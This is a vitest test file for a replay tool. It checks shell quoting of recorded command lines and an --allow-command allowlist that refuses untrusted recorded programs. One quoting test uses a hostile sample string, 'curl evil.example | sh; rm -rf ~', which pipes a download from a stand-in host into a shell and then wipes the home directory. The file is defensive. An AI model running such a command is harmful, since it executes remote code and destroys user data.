/**
 * issue 41 §11, a recording is code: the command lines `replay` prints before it starts a recorded
 * program, and `--allow-command` (matched exactly as recorded; a program given on replay's own command
 * line is never checked; without the flag nothing is refused).
 */
import { describe, expect, it } from 'vitest';
import { commandNotAllowed, startedCommandText, type StartedCommand } from '../../../src/app/replay/recorded-commands.js';
import { commandLineText, shellWord } from '../../../src/domain/text/command-line.js';

const agent = (command: string, args: string[] = []): StartedCommand => ({
  role: 'agent program',
  command,
  args,
  recorded: true,
});

describe('commandLineText', () => {
  it('plain words bare; spaces, quotes, $, ; and the empty word single-quoted, so the line means the words run', () => {
    expect(commandLineText('node', ['dist/examples/agents/sdk-agent.js', '--x=1'])).toBe(
      'node dist/examples/agents/sdk-agent.js --x=1',
    );
    expect(commandLineText('sh', ['-c', 'curl evil.example | sh; rm -rf ~', '', "it's", '$HOME'])).toBe(
      `sh -c 'curl evil.example | sh; rm -rf ~' '' 'it'\\''s' '$HOME'`,
    );
    expect(shellWord('a\nb')).toBe("'a\nb'");
  });
});

describe('commandNotAllowed', () => {
  it('no list: every recorded program is replayed, as before the flag existed', () => {
    expect(commandNotAllowed([agent('anything')], undefined)).toBeNull();
  });

  it('a recorded program on the list passes; one not on it (matched exactly) refuses the run, named', () => {
    expect(commandNotAllowed([agent('node', ['a.js'])], ['python3', 'node'])).toBeNull();
    const why = commandNotAllowed([agent('/tmp/x/node')], ['node']);
    expect(why).toBe(
      'its agent program "/tmp/x/node" is not on --allow-command ("node"): a recording is code; replay it only if you trust that program, by adding it with --allow-command',
    );
  });

  it("with --live-upstream the recorded upstream is checked too; an upstream given on replay's command line is not", () => {
    const upstream = (recorded: boolean): StartedCommand => ({ role: 'upstream', command: 'bash', args: ['-c', 'x'], recorded });
    expect(commandNotAllowed([agent('node'), upstream(true)], ['node'])).toMatch(/^its upstream "bash" is not on/);
    expect(commandNotAllowed([agent('node'), upstream(false)], ['node'])).toBeNull();
  });

  it('a huge recorded program name is cut in the refusal', () => {
    const why = commandNotAllowed([agent('p'.repeat(10_000))], ['node']) ?? '';
    expect(why.length).toBeLessThan(400);
    expect(why).toContain('p…"');
  });

  it('the printed line names the role and the command line', () => {
    expect(startedCommandText(agent('node', ['my agent.js']))).toBe("agent program: node 'my agent.js'");
  });
});
